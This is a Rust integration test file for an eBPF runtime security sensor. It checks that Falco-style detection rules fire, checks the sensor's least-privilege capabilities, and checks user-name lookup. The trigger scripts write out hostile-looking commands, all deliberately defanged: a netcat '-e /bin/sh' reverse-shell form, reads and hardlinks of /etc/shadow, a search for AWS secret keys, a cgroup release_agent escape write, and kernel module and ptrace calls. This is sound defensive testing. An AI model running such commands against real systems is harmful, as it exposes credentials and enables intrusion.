            format!("cp /bin/true {d}/login && chmod 755 {d} {d}/login && setpriv --reuid=nobody --regid=nogroup --clear-groups {d}/login"),
        ),
        host(
            "Create Hardlink Over Sensitive Files",
            "ln /etc/shadow /etc/.pg-hardlink-$$ && rm -f /etc/.pg-hardlink-$$".into(),
        ),
        // PTRACE_ATTACH to a child, then detach.
        host(
            "PTRACE attached to process",
            r#"python3 -c '
import ctypes, os, signal, time
pid = os.fork()
if pid == 0:
    time.sleep(5)
    os._exit(0)
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace(16, pid, 0, 0)
os.waitpid(pid, 0)
libc.ptrace(17, pid, 0, 0)
os.kill(pid, signal.SIGKILL)
'"#
            .into(),
        ),
        // A client named ssh connects out to port 4444 of a TEST-NET address, in a network
        // namespace of its own with a veth pair where nobody answers: the connect stays in
        // progress (as the rule accepts) and nothing leaves the namespace.
        host(
            "Disallowed SSH Connection Non Standard Port",
            format!(
                "cat > {d}/connect.py <<'PY'
import socket
s = socket.socket()
s.setblocking(False)
s.connect_ex(('198.51.100.2', 4444))
PY
cp \"$(python3 -c 'import sys; print(sys.executable)')\" {d}/ssh && unshare -n sh -c 'ip link add pgv0 type veth peer name pgv1 && ip addr add 198.51.100.1/24 dev pgv0 && ip link set pgv0 up && ip link set pgv1 up && {d}/ssh {d}/connect.py'"
            ),
        ),
        host(
            "Find AWS Credentials",
            format!("grep -r aws_secret_access_key {d} > /dev/null; true"),
        ),
        // A shell with a terminal below the container's entrypoint (runc).
        container(
            "Terminal shell in container",
            format!("cp /usr/bin/script {d}/runc && SHELL=/bin/bash {d}/runc -qc 'bash -c true' /dev/null > /dev/null"),
        ),
        container(
            "Netcat Remote Code Execution in Container",
            format!("cp /bin/true {d}/nc && {d}/nc -e /bin/sh 127.0.0.1 {port}"),
        ),
        container(
            "Packet socket created in container",
            "python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()'".into(),
        ),
        // The rule takes any init_module/finit_module call: one on /dev/null fails, so
        // nothing is loaded into the kernel.
        container(
            "Linux Kernel Module Injection Detected",
            r#"python3 -c '
import ctypes, os
fd = os.open("/dev/null", os.O_RDONLY)
ctypes.CDLL(None, use_errno=True).syscall(313, fd, b"", 0)
'"#
            .into(),
        ),
        container(
            "Debugfs Launched in Privileged Container",
            format!("cp /bin/true {d}/debugfs && {d}/debugfs"),
        ),
        // The container's root is an overlay: a binary from the image (lower layer) runs, then
        // one written into the container (upper layer).
        container(
            "Drop and execute new binary in container",
            format!("mkdir -p {d}/ov/L {d}/ov/U {d}/ov/W {d}/ov/M && cp /bin/true {d}/ov/L/image-binary && unshare -m sh -c 'mount -t overlay overlay -o lowerdir={d}/ov/L,upperdir={d}/ov/U,workdir={d}/ov/W {d}/ov/M && {d}/ov/M/image-binary && cp /bin/true {d}/ov/M/dropped && {d}/ov/M/dropped'"),
        ),
        container(
            "Detect release_agent File Container Escapes",
            // In a process started inside the container (its cgroup is read at exec).
            format!("mkdir -p {d}/cg && sh -c 'echo /tmp/x > {d}/cg/release_agent'"),
        ),
    ]
}

#[test]
#[ignore = "needs root: loads BPF programs into the kernel (make test runs it as root)"]
fn every_stable_rule_one_host_can_trigger_fires() {
    let id = container_id(0x57ab_1e00_0000);
    let rt = tokio::runtime::Runtime::new().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let socket = dir.path().join("docker.sock");
    let _docker = rt.block_on(FakeDocker::start(
        &socket,
        vec![Container {
            id: id.clone(),
            name: "/stable-rules".into(),
            image: "registry.local/attack:1".into(),
            privileged: true,
            labels: vec![],
        }],
    ));
    let work = std::path::PathBuf::from(format!("/tmp/pg-stable-{}", std::process::id()));
    std::fs::create_dir_all(&work).unwrap();
    let d = work.display().to_string();
    let cgroup = PathBuf::from("/sys/fs/cgroup/cpu/docker").join(&id);
    std::fs::create_dir_all(&cgroup).unwrap();
    let mut sensor = Sensor::start(&["--docker-socket", socket.to_str().unwrap()]);
    // The runtime is asked about the container at its first process; later ones carry its
    // answer (privileged), as with Falco's container plugin.
    sh(&format!(
        "echo $$ > {}/cgroup.procs && /bin/true",
        cgroup.display()
    ));
    sensor.wait_for_log(&["container known", &id[..12]], Duration::from_secs(10));
    let triggers = triggers(&d, 9);
    for t in &triggers {
        let script = if t.in_container {
            format!(
                "echo $$ > {}/cgroup.procs && {}",
                cgroup.display(),
                t.script
            )
        } else {
            t.script.clone()
        };
        let status = Command::new("bash").args(["-c", &script]).status().unwrap();
        assert!(status.success(), "{}: {script}", t.rule);
    }
    let alerts = sensor.stop();
    let _ = std::fs::remove_dir_all(&work);
    let _ = std::fs::remove_dir(&cgroup);
    let missing: Vec<&str> = triggers
        .iter()
        .filter(|t| {
            !alerts.iter().any(|a| {
                a["rule"] == t.rule
                    && (!t.in_container || a["output_fields"]["container.id"] == id[..12])
            })
        })
        .map(|t| t.rule)
        .collect();
    assert!(
        missing.is_empty(),
        "did not fire: {missing:#?}\nalerts:\n{:#?}",
        alerts.iter().map(|a| &a["rule"]).collect::<Vec<_>>()
    );
    let dropped: Vec<&serde_json::Value> = alerts
        .iter()
        .filter(|a| a["rule"] == "Drop and execute new binary in container")
        .map(|a| &a["output_fields"]["proc.exepath"])
        .collect();
    assert!(
        dropped
            .iter()
            .all(|p| p.as_str().is_some_and(|p| p.ends_with("/dropped"))),
        "only the binary written into the container, not the image's: {dropped:?}"
    );
}

#[test]
#[ignore = "needs root: loads BPF programs into the kernel (make test runs it as root)"]
fn the_kernel_says_what_a_duplicated_descriptor_is() {
    let dir = tempfile::tempdir().unwrap();
    let capture = dir.path().join("events.jsonl");
    let sensor = Sensor::start(&["--capture", capture.to_str().unwrap()]);
    // dup2 onto fds 40..43: a memfd, a pipe, a file, a directory.
    sh(r#"python3 -c '
import os
os.dup2(os.memfd_create("pg"), 40)
r, w = os.pipe(); os.dup2(r, 41)
os.dup2(os.open("/etc/hostname", os.O_RDONLY), 42)
os.dup2(os.open("/etc", os.O_RDONLY | os.O_DIRECTORY), 43)
'"#);
    sensor.stop();
    let events: Vec<serde_json::Value> = std::fs::read_to_string(&capture)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .filter(|e: &serde_json::Value| e["evt.type"] == "dup2" && e["proc.name"] == "python3")
        .collect();
    let kind_of = |newfd: i64| {
        events
            .iter()
            .find(|e| e["evt.rawres"] == newfd)
            .map(|e| (e["fd.type"].clone(), e["fd.typechar"].clone()))
    };
    let want = |t: &str, c: &str| Some((serde_json::json!(t), serde_json::json!(c)));
    assert_eq!(kind_of(40), want("memfd", "m"), "{events:#?}");
    assert_eq!(kind_of(41), want("pipe", "p"));
    assert_eq!(kind_of(42), want("file", "f"));
    assert_eq!(kind_of(43), want("directory", "d"));
}

#[test]
#[ignore = "needs root: loads BPF programs into the kernel (make test runs it as root)"]
fn a_container_contacting_the_kubernetes_api_server_is_reported() {
    // Kubernetes' service name resolves here as on a node: the sensor runs in a mount namespace
    // whose /etc/hosts says where the API server is (198.51.100.7, TEST-NET-2).
    let dir = tempfile::tempdir().unwrap();
    let hosts = dir.path().join("hosts");
    std::fs::write(
        &hosts,
        "127.0.0.1 localhost\n198.51.100.7 kubernetes.default.svc.cluster.local\n",
    )
    .unwrap();
    let script = "mount --bind \"$0\" /etc/hosts && exec \"$@\"";
    let hosts_arg = hosts.to_str().unwrap();
    let via = [
        "unshare",
        "-m",
        "--propagation",
        "private",
        "sh",
        "-c",
        script,
        hosts_arg,
    ];
    let id = container_id(0x0a91_0000_0000);
    let cgroup = PathBuf::from("/sys/fs/cgroup/cpu/docker").join(&id);
    std::fs::create_dir_all(&cgroup).unwrap();
    let sensor = Sensor::start_via(&via, &[]);
    // From the container, in a network namespace of its own where nobody answers: the connect
    // stays in progress and nothing leaves.
    let connect = dir.path().join("connect.py");
    std::fs::write(
        &connect,
        "import socket\ns = socket.socket()\ns.setblocking(False)\ns.connect_ex(('198.51.100.7', 443))\n",
    )
    .unwrap();
    sh(&format!(
        "echo $$ > {}/cgroup.procs && unshare -n sh -c 'ip link add pgk0 type veth peer name pgk1 && ip addr add 198.51.100.1/24 dev pgk0 && ip link set pgk0 up && ip link set pgk1 up && python3 {}'",
        cgroup.display(),
        connect.display()
    ));
    let alerts = sensor.stop();
    let _ = std::fs::remove_dir(&cgroup);
    let hit = alerts.iter().find(|a| {
        a["rule"] == "Contact K8S API Server From Container"
            && a["output_fields"]["container.id"] == id[..12]
    });
    assert!(
        hit.is_some(),
        "no alert: {:#?}",
        alerts.iter().map(|a| &a["rule"]).collect::<Vec<_>>()
    );
}

/// The capabilities deploy/kubernetes gives the sensor instead of `privileged` (those of
/// Falco's chart for its modern probe), as capability numbers.
const LEAST_PRIVILEGE: [(&str, u32); 4] = [
    ("sys_ptrace", 19),
    ("sys_resource", 24),
    ("perfmon", 38),
    ("bpf", 39),
];

/// The sensor binary and the stable rules linked (or copied) into a world-readable folder, so
/// that `nobody` reaches them even when the checkout sits below a private home directory.
fn reachable_by_nobody() -> (tempfile::TempDir, PathBuf, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(
        dir.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let sensor = dir.path().join("peregrine-sensor");
    let built = env!("CARGO_BIN_EXE_peregrine-sensor");
    if std::fs::hard_link(built, &sensor).is_err() {
        std::fs::copy(built, &sensor).unwrap();
    }
    let rules = dir.path().join("falco_rules.yaml");
    std::fs::copy(stable_rules(), &rules).unwrap();
    (dir, sensor, rules)
}

/// The effective capability mask and real uid of a running process.
fn caps_and_uid(pid: u32) -> (u64, u32) {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let field = |name: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .unwrap()
            .trim()
            .to_string()
    };
    let caps = u64::from_str_radix(&field("CapEff:"), 16).unwrap();
    let uid = field("Uid:")
        .split_whitespace()
        .next()
        .unwrap()
        .parse()
        .unwrap();
    (caps, uid)
}

/// The sensor as the unprivileged user `nobody` holding only the deployment's capabilities
/// (through setpriv's ambient set, as a container runtime grants them) loads its programs, reads
/// the process table and raises Falco's alert. This machine's bounding set lacks SYS_RESOURCE
/// (the sandbox drops it), so the test grants the others and checks it is not needed on a kernel
/// that charges BPF memory to the cgroup (5.11 and later).
#[test]
#[ignore = "needs root to hand out capabilities (make test runs it as root)"]
fn the_sensor_runs_as_nobody_with_only_the_deployments_capabilities() {
    let (bounding, _) = caps_and_uid(std::process::id());
    let granted: Vec<(&str, u32)> = LEAST_PRIVILEGE
        .into_iter()
        .filter(|(_, bit)| bounding & (1 << bit) != 0)
        .collect();
    let names: Vec<&str> = granted.iter().map(|(n, _)| *n).collect();
    assert!(
        names.contains(&"bpf") && names.contains(&"perfmon") && names.contains(&"sys_ptrace"),
        "this machine cannot grant {names:?}"
    );
    let (_dir, sensor, rules) = reachable_by_nobody();
    let caps = names
        .iter()
        .map(|n| format!("+{n}"))
        .collect::<Vec<_>>()
        .join(",");
    let set = format!("-all,{caps}");
    let via = [
        "setpriv",
        "--reuid",
        "65534",
        "--regid",
        "65534",
        "--clear-groups",
        "--inh-caps",
        &set,
        "--ambient-caps",
        &set,
        "--bounding-set",
        &set,
        "--",
    ];
    let sensor =
        Sensor::start_program(&via, sensor.to_str().unwrap(), rules.to_str().unwrap(), &[]);
    let (effective, uid) = caps_and_uid(sensor.child.id());
    let wanted = granted.iter().fold(0u64, |m, (_, bit)| m | (1 << bit));
    assert_eq!(uid, 65534, "the sensor runs as nobody");
    assert_eq!(
        effective, wanted,
        "the sensor holds exactly {names:?}, nothing more"
    );
    sh("cat /etc/shadow > /dev/null");
    sensor.wait_for_alert("Read sensitive file untrusted");
    let alerts = sensor.stop();
    let alert = alerts
        .iter()
        .find(|a| a["rule"] == "Read sensitive file untrusted")
        .unwrap();
    assert_eq!(alert["output_fields"]["proc.name"], "cat");
    assert_eq!(alert["output_fields"]["fd.name"], "/etc/shadow");
    assert_eq!(
        alert["output_fields"]["user.name"], "root",
        "the process table reads other users' /proc entries"
    );
}

/// Without those capabilities the sensor refuses to start and says what it needs.
#[test]
#[ignore = "needs root to switch to nobody (make test runs it as root)"]
fn the_sensor_without_capabilities_says_which_it_needs() {
    let (_dir, sensor, rules) = reachable_by_nobody();
    let out = Command::new("setpriv")
        .args(["--reuid", "65534", "--regid", "65534", "--clear-groups"])
        .args(["--inh-caps", "-all", "--bounding-set", "-all", "--"])
        .arg(sensor)
        .args(["run", "--stdout", "--rules"])
        .arg(rules)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(
        stderr.contains("needs root or the capabilities BPF and PERFMON"),
        "{stderr}"
    );
}

/// In a pod the image's /etc is not the host's: with `HOST_ROOT` the sensor names users from
/// the passwd file below it, as deploy/kubernetes mounts the host's /etc at /host/etc.
#[test]
#[ignore = "needs root: loads BPF programs into the kernel (make test runs it as root)"]
fn user_names_come_from_below_host_root() {
    let host = tempfile::tempdir().unwrap();
    std::fs::create_dir(host.path().join("etc")).unwrap();
    std::fs::write(
        host.path().join("etc/passwd"),
        "hostadmin:x:0:0:the host's root:/root:/bin/bash\n",
    )
    .unwrap();
    std::fs::write(host.path().join("etc/group"), "hostwheel:x:0:\n").unwrap();
    let host_root = format!("HOST_ROOT={}", host.path().display());
    let sensor = Sensor::start_via(&["env", &host_root], &[]);
    sh("cat /etc/shadow > /dev/null");
    sensor.wait_for_alert("Read sensitive file untrusted");
    let alerts = sensor.stop();
    let alert = alerts
        .iter()
        .find(|a| a["rule"] == "Read sensitive file untrusted")
        .unwrap();
    assert_eq!(alert["output_fields"]["user.name"], "hostadmin");
}
